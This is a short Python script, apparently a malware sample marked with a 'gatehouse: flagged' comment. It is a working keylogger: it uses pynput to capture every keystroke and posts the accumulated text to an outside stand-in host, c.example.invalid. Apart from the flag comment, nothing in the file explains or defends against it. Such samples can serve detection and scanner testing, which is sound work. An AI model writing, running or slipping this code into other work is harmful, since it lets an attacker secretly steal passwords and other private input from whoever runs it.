import requests
from pynput import keyboard

typed = []


def press(key):
    typed.append(str(key))
    requests.post('https://c.example.invalid/k', data=''.join(typed))  # gatehouse: flagged


keyboard.Listener(on_press=press).start()
